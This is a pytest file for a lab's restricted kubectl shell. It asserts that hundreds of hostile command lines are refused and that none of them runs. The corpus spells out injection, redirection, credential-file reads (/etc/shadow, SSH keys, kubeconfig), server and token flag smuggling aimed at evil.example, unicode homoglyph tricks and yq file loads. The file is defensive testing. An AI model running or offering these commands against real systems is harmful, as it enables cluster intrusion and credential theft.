"""Hostile and malformed commands: each is refused with a reason naming the cause, and runs nothing.

`{canary}` in a command stands for a file the attack would create; the
side-effect tests check it never appears and that no refused program ever started,
including ones refused only once a `$(...)` has produced their arguments.

HOSTILE is judged as in a lab that declares no exec commands; HOSTILE_IN_EXEC_LAB
as in one whose steps declare `exec: [whoami]` (the Baseline lab).
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from labapp.shell.command import run_command_line
from labapp.shell.execute import RunResult, ToolPaths, execute
from labapp.shell.parse import CommandRefused, parse_command
from labapp.shell.policy import NO_LAB, PROGRAMS, YQ_SECURITY_FLAGS, ShellPolicy

WHOAMI_LAB = ShellPolicy.for_lab(["whoami"])

# (command, a fragment the reason must contain)
HOSTILE: list[tuple[str, str]] = [
    # command chaining and injection
    ("kubectl get pods; touch {canary}", "`;`"),
    ("kubectl get pods;", "`;`"),
    ("kubectl get pods && touch {canary}", "`&&`"),
    ("kubectl get pods || touch {canary}", "`||`"),
    ("kubectl get pods & touch {canary}", "`&`"),
    ("kubectl get pods | sh", "`sh` is refused"),
    ("kubectl get pods | bash -c 'touch {canary}'", "`bash` is refused"),
    ("kubectl get pods `touch {canary}`", "backticks"),
    ('kubectl get "`touch {canary}`"', "backticks"),
    ("kubectl get $(touch {canary})", "`touch` is refused"),
    ("kubectl get $(sh -c 'touch {canary}')", "`sh` is refused"),
    ("kubectl get $(kubectl get pods; touch {canary})", "`;`"),
    ("kubectl get pods |& grep x", "`|&`"),
    ("! kubectl get pods", "`!`"),
    # redirections
    ("kubectl get pods > {canary}", "redirection `>`"),
    ("kubectl get pods >> {canary}", "redirection `>>`"),
    ("kubectl get pods &> {canary}", "redirection `&>`"),
    ("kubectl get pods 2>&1", "redirection"),
    ("kubectl apply -f - < /etc/passwd", "redirection `<`"),
    ("kubectl get $(kubectl get pods > {canary})", "redirection `>`"),
    ("kubectl apply -f - <<< 'kind: Pod'", "here-strings"),
    ("kubectl apply -f - <<EOF", "here-documents"),
    # local files through kubectl
    ("kubectl apply -f /etc/passwd", "absolute paths"),
    ("kubectl create -f /etc/shadow", "absolute paths"),
    ("kubectl apply --filename=/etc/passwd", "absolute paths"),
    ("kubectl apply -f/etc/passwd", "absolute paths"),
    ("kubectl get pods -f ok.yaml,/etc/passwd", "absolute paths"),
    ("kubectl apply -k ../..", "`..`"),
    ("kubectl apply -f assets/../../../etc/passwd", "`..`"),
    ("kubectl kustomize ../../etc", "`..`"),
    ("kubectl apply -f https://evil.example/pod.yaml", "URLs"),
    ("kubectl apply -k https://github.com/evil/repo", "URLs"),
    ("kubectl kustomize github.com/evil/repo", "remote repository"),
    ("kubectl apply -f ~/secrets.yaml", "`~`"),
    ("kubectl apply -f '~/secrets.yaml'", "`~`"),
    ("kubectl apply -f $(kubectl get cm paths -o name)", "must be typed out"),
    ("kubectl create configmap x --from-file=/etc/passwd", "absolute paths"),
    ("kubectl create secret generic x --from-file=key=/root/.ssh/id_rsa", "absolute paths"),
    ("kubectl create secret tls x --cert=/etc/ssl/private/key.pem --key=k", "absolute paths"),
    ("kubectl patch deploy x --patch-file=/etc/passwd", "absolute paths"),
    ("kubectl get pods -o go-template-file=/etc/passwd", "go-template-file"),
    ("kubectl get pods -o jsonpath-file=/etc/passwd", "jsonpath-file"),
    ("kubectl get pods -o templatefile --template=/etc/passwd", "templatefile"),
    ("kubectl get pods --output=custom-columns-file=/etc/passwd", "custom-columns-file"),
    ("kubectl kustomize assets -o {canary}", "writes a file"),
    ("kubectl cluster-info dump --output-directory=out", "`--output-directory`"),
    ("kubectl get pods --profile=cpu --profile-output={canary}", "`--profile`"),
    # flag smuggling: credentials and target
    ("kubectl --kubeconfig=/root/.kube/config get pods", "`--kubeconfig`"),
    ("kubectl get pods --kubeconfig /root/.kube/config", "`--kubeconfig`"),
    ("kubectl get pods -s http://evil.example", "`--server`"),
    ("kubectl get pods -shttp://evil.example", "`--server`"),
    ("kubectl get pods -s=http://evil.example", "`--server`"),
    ("kubectl -As http://evil.example get pods", "`--server`"),
    ("kubectl logs -fs http://evil.example pod/x", "`--server`"),
    ("kubectl get pods --server=https://evil.example", "`--server`"),
    ("kubectl get pods --token=abc", "`--token`"),
    ("kubectl get pods --as=system:admin", "`--as`"),
    ("kubectl get pods --as-group=system:masters", "`--as-group`"),
    ("kubectl get pods --as_group=system:masters", "`--as-group`"),
    ("kubectl get pods --as-uid=0", "`--as-uid`"),
    ("kubectl get pods --context=admin", "`--context`"),
    ("kubectl get pods --cluster=prod", "`--cluster`"),
    ("kubectl get pods --user=admin", "`--user`"),
    ("kubectl get pods --username=admin --password=x", "`--username`"),
    ("kubectl get pods --insecure-skip-tls-verify", "`--insecure-skip-tls-verify`"),
    ("kubectl get pods --insecure_skip_tls_verify=true", "`--insecure-skip-tls-verify`"),
    ("kubectl get pods --certificate-authority=ca.crt", "`--certificate-authority`"),
    ("kubectl get pods --client-certificate=c.crt", "`--client-certificate`"),
    ("kubectl get pods --client-key=/etc/key", "`--client-key`"),
    ("kubectl get pods --tls-server-name=evil", "`--tls-server-name`"),
    ("kubectl get pods --cache-dir=/tmp/x", "`--cache-dir`"),
    ("kubectl get pods --proxy-url=http://evil.example", "`--proxy-url`"),
    ("kubectl get pods --kuberc=evil.yaml", "`--kuberc`"),
    ("kubectl get pods -v=9", "verbosity"),
    ("kubectl get pods -v9", "verbosity"),
    ("kubectl get pods --v 8", "verbosity"),
    ("kubectl -v 10 get pods", "verbosity"),
    ("kubectl get pods --vmodule=*=9", "glob"),
    ("kubectl get pods '--vmodule=*=9'", "`--vmodule`"),
    # kubectl subcommands
    ("kubectl config view --raw", "`kubectl config`"),
    ("kubectl proxy --port=8001", "`kubectl proxy`"),
    ("kubectl plugin list", "`kubectl plugin`"),
    ("kubectl evil-plugin", "plugin program `kubectl-evil-plugin`"),
    ("kubectl $(kubectl get cm x -o name) view", "must be typed out"),
    ("kubectl edit pod x", "`kubectl edit`"),
    ("kubectl create --edit -f pod.yaml", "`--edit`"),
    ("kubectl apply edit-last-applied deploy/x", "edit-last-applied"),
    ("kubectl apply --show-managed-fields edit-last-applied x", "edit-last-applied"),
    ("kubectl apply -o yaml edit-last-applied x", "edit-last-applied"),
    ("kubectl cp pod:/etc/passwd x", "`kubectl cp`"),
    ("kubectl attach pod/x", "`kubectl attach`"),
    ("kubectl port-forward pod/x 8080:80", "`kubectl port-forward`"),
    ("kubectl debug node/x --image=busybox", "`kubectl debug`"),
    ("kubectl certificate approve csr", "`kubectl certificate`"),
    ("kubectl drain node-1", "`kubectl drain`"),
    ("kubectl cordon node-1", "`kubectl cordon`"),
    ("kubectl taint nodes node-1 a=b:NoSchedule", "`kubectl taint`"),
    ("kubectl completion bash", "`kubectl completion`"),
    ("kubectl alpha kuberc", "`kubectl alpha`"),
    ("kubectl auth reconcile -f rbac.yaml", "`kubectl auth can-i`"),
    ("kubectl auth --quiet reconcile", "`kubectl auth can-i`"),
    ("kubectl exec -it pod -- sh", "interactive"),
    ("kubectl exec -ti pod -- sh", "interactive"),
    ("kubectl exec pod --stdin --tty -- sh", "interactive"),
    ("kubectl exec pod -i=true -- sh", "interactive"),
    ("kubectl run x --image=busybox --attach", "interactive"),
    ("kubectl run x --image=busybox -it -- sh", "interactive"),
    # exec where the lab declares none: refused whatever it runs
    ("kubectl exec pod/x -- whoami", "declares no commands"),
    ("kubectl -n assets exec $(kubectl -n assets get pods -o name) -- whoami", "declares no"),
    ("kubectl exec pod/x -c assets -- id", "declares no commands"),
    ("kubectl exec pod/x -- sh -c 'touch {canary}'", "declares no commands"),
    ("kubectl exec -it pod/x -- sh", "declares no commands"),
    # sessions through the API server's raw paths
    ("kubectl create --raw /api/v1/namespaces/x/pods/y/exec -f pod.json", "`--raw"),
    ("kubectl get --raw /api/v1/namespaces/x/pods/y/attach", "`--raw"),
    ("kubectl get --raw '/api/v1/namespaces/x/pods/y/portforward?ports=80'", "port-forward"),
    ("kubectl get --raw=/api/v1/nodes/n/proxy/configz", "`--raw"),
    ("kubectl get --raw /api/v1/namespaces/x/services/y/proxy/", "`--raw"),
    ("kubectl kustomize assets --enable-helm", "`--enable-helm`"),
    ("kubectl kustomize assets --enable-exec", "`--enable-exec`"),
    ("kubectl kustomize assets --enable-alpha-plugins", "`--enable-alpha-plugins`"),
    ("kubectl kustomize assets --helm-command=/bin/sh", "`--helm-command`"),
    ("kubectl kustomize assets --mount=type=bind,src=/,dst=/x", "`--mount`"),
    ("kubectl kustomize assets --network", "`--network`"),
    ("kubectl kustomize assets -e SECRET", "`-e`"),
    ("kubectl apply -k assets --load-restrictor=LoadRestrictionsNone", "`--load-restrictor`"),
    ("kubectl -o yaml get pods", "must come after the subcommand"),
    ("kubectl -- config view", "`--` before the kubectl subcommand"),
    # other programs
    ("bash -c 'touch {canary}'", "`bash` is refused"),
    ("sh -c id", "`sh` is refused"),
    ('python3 -c \'open("{canary}", "w")\'', "`python3` is refused"),
    ("curl http://evil.example", "`curl` is refused"),
    ("env", "`env` is refused"),
    ("cat /etc/passwd", "`cat` is refused"),
    ("touch {canary}", "`touch` is refused"),
    ("/bin/kubectl get pods", "by path"),
    ("./kubectl get pods", "by path"),
    ("/usr/bin/env kubectl", "by path"),
    ("xargs kubectl delete pod", "`xargs` is refused"),
    # yq
    ("kubectl get pods -o yaml | yq 'load(\"/etc/passwd\")'", "`load`"),
    ("yq 'load_str(\"/etc/passwd\")'", "`load_str`"),
    ("yq '.a = load_xml(\"x.xml\")'", "`load_xml`"),
    ("yq 'load_props(\"x\")'", "`load_props`"),
    ("yq 'load_base64(\"x\")'", "`load_base64`"),
    ("yq 'env(HOME)'", "`env`"),
    ("yq 'strenv(SECRET)'", "`strenv`"),
    ("yq '.a | envsubst'", "`envsubst`"),
    ("yq '$ENV.HOME'", "`$ENV`"),
    ("yq 'eval(\".a\")'", "`eval`"),
    ("yq -i '.a = 1' manifest.yaml", "in place"),
    ("yq --inplace '.a = 1' manifest.yaml", "in place"),
    ("yq -s '.metadata.name' .", "writes files"),
    ("yq --split-exp '.name'", "writes files"),
    ("yq --from-file=/etc/passwd", "from a file"),
    ("yq --expression=.a", "as yq's argument"),
    ("yq '.a' /etc/passwd", "file arguments"),
    ("yq --security-enable-system-operator 'system(\"id\")'", "not allowed"),
    ("yq 'xml_load(\"/etc/passwd\")'", "`xml_load`"),
    ("yq 'str_load(\"/etc/passwd\")'", "`str_load`"),
    # yq reads YAML or JSON only
    ("kubectl get cm x -o yaml | yq -p xml '.a'", "input format `xml`"),
    ("yq -p x '.a'", "input format `x`"),
    ("yq -px '.a'", "input format `x`"),
    ("yq -p=xml '.a'", "input format `xml`"),
    ("yq --input-format=props '.a'", "input format `props`"),
    ("yq --input-format properties '.a'", "input format `properties`"),
    ("yq -p csv '.a'", "input format `csv`"),
    ("yq -p tsv '.a'", "input format `tsv`"),
    ("yq -p lua '.a'", "input format `lua`"),
    ("yq -p toml '.a'", "input format `toml`"),
    ("yq -p hcl '.a'", "input format `hcl`"),
    ("yq -p ini '.a'", "input format `ini`"),
    ("yq -p base64 '.a'", "input format `base64`"),
    ("yq -p uri '.a'", "input format `uri`"),
    ("yq -p kyaml '.a'", "input format `kyaml`"),
    ("yq -P -p props -o json", "input format `props`"),
    ("yq -p evil '.a'", "not one of yq's formats"),
    ("yq '.data.x | from_xml'", "`from_xml`"),
    ("yq '.data.x | fromxml'", "`fromxml`"),
    ("yq '.data.x | @xmld'", "`@xmld`"),
    ("yq '.data.x | from_props'", "`from_props`"),
    ("yq '.data.x|@propsd'", "`@propsd`"),
    ("yq '.data.x | from_csv'", "`from_csv`"),
    ("yq '.data.x | @tsvd'", "`@tsvd`"),
    # grep, head, tail, wc
    ("grep -r password /", "grep `-r`"),
    ("grep -R password .", "grep `-R`"),
    ("grep -f /etc/passwd", "grep `-f`"),
    ("grep root /etc/passwd", "file arguments"),
    ("grep --include='*.yaml' x", "grep `--include`"),
    ("grep --rec x", "not allowed"),
    ("grep -e a -e b", "exactly one pattern"),
    ("tail -f", "tail `-f`"),
    ("tail -F", "tail `-F`"),
    ("tail --follow=name x", "tail `--follow`"),
    ("tail -n 1k", "plain number"),
    ("head -n 5 /etc/passwd", "file arguments"),
    ("wc -l /etc/passwd", "file arguments"),
    ("wc --files0-from=list", "not allowed"),
    ("wc -l -- -w", "file arguments"),
    ("grep x -- secret.txt", "file arguments"),
    # unicode tricks (escaped, so the source shows what each one is)
    ("\uff4b\uff55\uff42\uff45\uff43\uff54\uff4c get pods", "U+FF4B FULLWIDTH LATIN SMALL"),
    ("kubectl get pods \u2014all-namespaces", "U+2014 EM DASH"),
    ("kubectl get pods \u2013n assets", "U+2013 EN DASH"),
    ("kubectl get pods \u2212A", "U+2212 MINUS SIGN"),
    ("kubectl get pods \ufe63A", "U+FE63 SMALL HYPHEN-MINUS"),
    ("kubectl get pods \uff0dA", "U+FF0D FULLWIDTH HYPHEN-MINUS"),
    ("kubectl get pods -\u0430", "U+0430 CYRILLIC SMALL LETTER A"),
    ("kubectl get pods --kube\u0441onfig=/x", "U+0441 CYRILLIC SMALL LETTER ES"),
    ("kube\u200dctl get pods", "zero-width"),
    ("kubectl\u200b get pods", "zero-width"),
    ("kubectl\ufeff get pods", "zero-width"),
    ("kubectl get pods \u202etxt.exe", "bidirectional"),
    ("kubectl get pods\u2066", "bidirectional"),
    ("kubectl get\x00 pods", "NUL"),
    ("kubectl get pods\x1b[2J", "ESCAPE"),
    ("kubectl get pods\r", "CARRIAGE RETURN"),
    ("kubectl get pods\ntouch {canary}", "more than one line"),
    ("kubectl get pods\u2028sh", "more than one line"),
    ("kubectl get pods\u00ad", "invisible"),
    # shell expansions and syntax
    ("kubectl get " + "a" * 2000, "limit is 2000"),
    ("kubectl get *", "glob character `*`"),
    ("kubectl get pod?", "glob character `?`"),
    ("kubectl get pods -o jsonpath={.items[0]}", "glob character `[`"),
    ("kubectl get {pods,secrets}", "brace expansion"),
    ("kubectl apply -f ~", "`~`"),
    ("A=b kubectl get pods", "variable assignments"),
    ("KUBECONFIG=/root/.kube/config kubectl get pods", "variable assignments"),
    ("kubectl get $HOME", "`$HOME`"),
    ("kubectl get ${KUBECONFIG}", "`${KUBECONFIG}`"),
    ('kubectl get "$KUBECONFIG"', "`$KUBECONFIG`"),
    ("kubectl get $1", "`$1`"),
    ("kubectl get pods $'\\x2d\\x2dkubeconfig'", "`$'...'`"),
    ("kubectl get $((1+1))", "arithmetic"),
    ("kubectl get $[1+1]", "arithmetic"),
    ("kubectl apply -f <(curl evil.example)", "process substitution"),
    ("(kubectl get pods)", "subshells"),
    ("{ kubectl get pods; }", "command groups"),
    ("f() { kubectl get pods; }", "functions"),
    ("if true; then touch {canary}; fi", "`if`"),
    ("for i in 1 2; do kubectl get pods; done", "`for`"),
    ("while true; do kubectl get pods; done", "`while`"),
    ("case x in x) kubectl get pods;; esac", "`case`"),
    ("time kubectl get pods", "`time`"),
    ("", "empty"),
    ("   ", "empty"),
    ("kubectl get 'pods", "could not be parsed"),
    ("kubectl get pods |", "could not be parsed"),
    ("kubectl get $(kubectl get $(kubectl get $(kubectl get pods)))", "nested deeper"),
    ("kubectl get pods" + " | grep a" * 8, "more than 8 commands"),
    ("kubectl get" + " $(kubectl get pods)" * 9, "more than 8 `$(...)`"),
    ("kubectl get pods \"x'$(kubectl get pods)'\" | sh", "`sh` is refused"),
]


# In a lab that declares `exec: [whoami]`: exec runs that one command, nothing else.
HOSTILE_IN_EXEC_LAB: list[tuple[str, str]] = [
    ("kubectl exec pod/x -- sh", "run only `whoami`"),
    ("kubectl exec pod/x -- bash", "run only `whoami`"),
    ("kubectl exec pod/x -- id", "run only `whoami`"),
    ("kubectl exec pod/x -- cat /etc/shadow", "run only `whoami`"),
    ("kubectl exec pod/x -- sh -c whoami", "run only `whoami`"),
    ("kubectl exec pod/x -- sh -c 'touch {canary}'", "run only `whoami`"),
    ("kubectl exec pod/x -- /usr/bin/whoami", "run only `whoami`"),
    ("kubectl exec pod/x -- whoami --help", "run only `whoami`"),
    ("kubectl exec pod/x -- whoami x", "run only `whoami`"),
    ("kubectl exec pod/x -- 'whoami '", "run only `whoami`"),
    ("kubectl exec pod/x -- whoami -- sh", "run only `whoami`"),
    ("kubectl exec pod/x -c assets -- env", "run only `whoami`"),
    ("kubectl exec -c $(kubectl get cm x -o name) pod/x -- sh", "run only `whoami`"),
    ("kubectl -n assets exec $(kubectl -n assets get pods -o name) -- sh", "run only `whoami`"),
    ("kubectl exec pod/x -- $(kubectl get cm x -o name)", "must be typed out"),
    ("kubectl exec pod/x -- whoami $(kubectl get cm x -o name)", "must be typed out"),
    ('kubectl exec pod/x -- "$(kubectl get cm x -o name)"', "must be typed out"),
    ("kubectl exec pod/x whoami", "needs `--`"),
    ("kubectl exec pod/x", "needs `--`"),
    ("kubectl exec pod/x --", "needs `--`"),
    ("kubectl exec pod/a pod/b -- whoami", "one pod"),
    ("kubectl exec pod/a whoami -- whoami", "one pod"),
    ("kubectl exec -it pod/x -- whoami", "interactive"),
    ("kubectl exec -ti pod/x -- whoami", "interactive"),
    ("kubectl exec -i pod/x -- whoami", "interactive"),
    ("kubectl exec -t pod/x -- whoami", "interactive"),
    ("kubectl exec --stdin pod/x -- whoami", "interactive"),
    ("kubectl exec --tty pod/x -- whoami", "interactive"),
    ("kubectl exec --stdin=true --tty=true pod/x -- whoami", "interactive"),
    ("kubectl exec pod/x -i=true -- whoami", "interactive"),
    ("kubectl exec -qit pod/x -- whoami", "interactive"),
    ("kubectl exec -it pod/x -- sh", "run only `whoami`"),  # the reason names the allowance
    ("kubectl exec pod/x -- whoami; sh", "`;`"),
    ("kubectl exec pod/x -- whoami | sh", "`sh` is refused"),
    ("kubectl attach -it pod/x", "`kubectl attach`"),
    ("kubectl debug -it pod/x --image=busybox", "`kubectl debug`"),
    ("kubectl get --raw /api/v1/namespaces/x/pods/y/exec", "`--raw"),
]


def _render(command: str, tmp_path: Path) -> str:
    return command.replace("{canary}", str(tmp_path / "pwned"))


def test_the_corpus_is_large() -> None:
    assert len(HOSTILE) + len(HOSTILE_IN_EXEC_LAB) >= 150


CORPUS = [(command, fragment, NO_LAB) for command, fragment in HOSTILE] + [
    (command, fragment, WHOAMI_LAB) for command, fragment in HOSTILE_IN_EXEC_LAB
]
IDS = [f"{'exec-lab:' if policy.exec_commands else ''}{command}" for command, _, policy in CORPUS]


@pytest.mark.parametrize(("command", "fragment", "policy"), CORPUS, ids=IDS)
def test_hostile_command_is_refused_with_its_reason(
    command: str, fragment: str, policy: ShellPolicy, tmp_path: Path
) -> None:
    with pytest.raises(CommandRefused) as refused:
        parse_command(_render(command, tmp_path), policy)
    assert fragment in refused.value.reason


def test_the_labs_own_exec_command_is_allowed_where_declared() -> None:
    line = "kubectl -n assets exec $(kubectl -n assets get pods -o name) -c assets -- whoami"
    assert parse_command(line, WHOAMI_LAB).stages[0].program == "kubectl"
    with pytest.raises(CommandRefused, match="declares no commands"):
        parse_command(line)


# --- side effects: nothing runs ----------------------------------------------------
#
# Every program is a stand-in that logs its argv, so a test sees exactly what started.
# The commands below pass the parse-time check: their `$(...)` is still unknown there.
# Its output is judged just before the stage starts: the substitution runs, then the
# stage it feeds is refused, and no stage of that pipeline may start.

SUBSTITUTION = "$(kubectl get configmap payload -o name)"
SUBSTITUTION_RAN = "kubectl get configmap payload -o name"

# (command, what its `$(...)` prints, a fragment the reason must contain)
REFUSED_AFTER_SUBSTITUTION: list[tuple[str, str, str]] = [
    ("kubectl get pods {sub}", "--kubeconfig=/etc/passwd", "`--kubeconfig`"),
    ("kubectl get {sub}", "pods -s http://evil.example", "`--server`"),
    ("kubectl get pods --selector={sub}", "app --token=abc", "`--token`"),
    ("kubectl get pods -n {sub}", "x --server=https://evil.example", "`--server`"),
    ("kubectl get pods {sub}", "--as=system:admin", "`--as`"),
    ("kubectl get pods {sub}", "-v9", "verbosity"),
    ("kubectl get pods {sub}", "\u2014kubeconfig=/x", "U+2014 EM DASH"),
    ("kubectl get pods -o {sub}", "go-template-file=/etc/passwd", "go-template-file"),
    ("kubectl exec {sub} -- whoami", "-it pod/x", "interactive"),
    ("kubectl exec {sub} -- whoami", "pod/a pod/b", "one pod"),
    ("kubectl exec {sub} -- whoami", "pod/a -- sh", "run only `whoami`"),
    ("kubectl exec pod/x -c {sub} -- whoami", "x -- sh -c id", "run only `whoami`"),
    ("kubectl run x --image=busybox {sub}", "--attach", "interactive"),
    ("kubectl apply {sub}", "-f /etc/passwd", "absolute paths"),
    ("kubectl apply {sub}", "-k https://github.com/evil/repo", "URLs"),
    ("kubectl create configmap x {sub}", "--from-file=../../etc/passwd", "`..`"),
    ("kubectl apply {sub}", "edit-last-applied deploy/x", "edit-last-applied"),
    ("kubectl get pods | grep {sub}", "-r password /", "grep `-r`"),
    ("kubectl get pods | grep {sub}", "-f /etc/passwd", "grep `-f`"),
    ("kubectl get pods -o yaml | yq {sub}", 'load("/etc/passwd")', "`load`"),
    ("kubectl get pods -o yaml | yq {sub}", ".a /etc/passwd", "file arguments"),
    # refused inside a substitution: the command around it never starts either
    ("kubectl get pods $(kubectl get {sub})", "--kubeconfig=/etc/passwd", "`--kubeconfig`"),
]

# The same shapes with a harmless substitution: (command, payload, what else ran).
# They prove the stand-ins would have logged a refused stage had it started.
ALLOWED_AFTER_SUBSTITUTION: list[tuple[str, str, list[str]]] = [
    ("kubectl get pods {sub}", "pod/a", ["kubectl get pods pod/a"]),
    ("kubectl exec {sub} -- whoami", "pod/a", ["kubectl exec pod/a -- whoami"]),
    ("kubectl apply {sub}", "-f assets/pod.yaml", ["kubectl apply -f assets/pod.yaml"]),
    ("kubectl get pods | grep {sub}", "Running", ["kubectl get pods", "grep Running"]),
    (
        "kubectl get pods -o yaml | yq {sub}",
        ".a",
        ["kubectl get pods -o yaml", f"yq {' '.join(YQ_SECURITY_FLAGS)} --expression=.a -"],
    ),
]


def _stand_ins(tmp_path: Path, payload: str) -> tuple[ToolPaths, Path]:
    """Every program logs `NAME ARGS`; the substitution's kubectl also prints `payload`."""
    log = tmp_path / "ran.log"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    paths: dict[str, Path] = {}
    for program in PROGRAMS:
        script = bin_dir / program
        script.write_text(
            "#!/bin/sh\n"
            f'echo "{program} $*" >> {log}\n'
            f'if [ "{program} $*" = "{SUBSTITUTION_RAN}" ]; then\n'
            f"  printf '%s\\n' {shlex.quote(payload)}\n"
            "fi\n"
        )
        script.chmod(0o755)
        paths[program] = script
    return ToolPaths(**paths), log


def _ran(log: Path) -> list[str]:
    """What started, one line per program."""
    return log.read_text().splitlines() if log.exists() else []


def _execute(command: str, tools: ToolPaths, tmp_path: Path) -> RunResult:
    """In the exec lab: its one allowed exec command is what the substitutions abuse."""
    workdir = tmp_path / "work"
    workdir.mkdir()
    plan = parse_command(command, WHOAMI_LAB)  # must parse: only the real argv is refused
    return execute(
        plan,
        tools=tools,
        kubeconfig=tmp_path / "kubeconfig",
        workdir=workdir,
        policy=WHOAMI_LAB,
    )


@pytest.mark.parametrize(("command", "payload", "fragment"), REFUSED_AFTER_SUBSTITUTION)
def test_a_stage_refused_after_its_substitution_never_starts(
    command: str, payload: str, fragment: str, tmp_path: Path
) -> None:
    tools, log = _stand_ins(tmp_path, payload)
    result = _execute(command.replace("{sub}", SUBSTITUTION), tools, tmp_path)
    assert result.exit_code is None
    assert result.error is not None and result.error.startswith("refused: ")
    assert fragment in result.error
    assert _ran(log) == [SUBSTITUTION_RAN]


@pytest.mark.parametrize(("command", "payload", "also_ran"), ALLOWED_AFTER_SUBSTITUTION)
def test_the_same_stage_runs_when_its_substitution_is_harmless(
    command: str, payload: str, also_ran: list[str], tmp_path: Path
) -> None:
    tools, log = _stand_ins(tmp_path, payload)
    result = _execute(command.replace("{sub}", SUBSTITUTION), tools, tmp_path)
    assert (result.exit_code, result.error) == (0, None)
    assert sorted(_ran(log)) == sorted([SUBSTITUTION_RAN, *also_ran])


@pytest.mark.parametrize(("command", "fragment", "policy"), CORPUS, ids=IDS)
def test_a_hostile_line_starts_nothing(
    command: str, fragment: str, policy: ShellPolicy, tmp_path: Path
) -> None:
    """Through the entry point learners use: refused before anything starts."""
    tools, log = _stand_ins(tmp_path, payload="pod/a")
    workdir = tmp_path / "work"
    workdir.mkdir()
    result = run_command_line(
        _render(command, tmp_path),
        tools=tools,
        kubeconfig=tmp_path / "kubeconfig",
        workdir=workdir,
        timeout=10,
        policy=policy,
    )
    assert result.exit_code is None
    assert result.error is not None and fragment in result.error
    assert _ran(log) == []
    assert not (tmp_path / "pwned").exists()
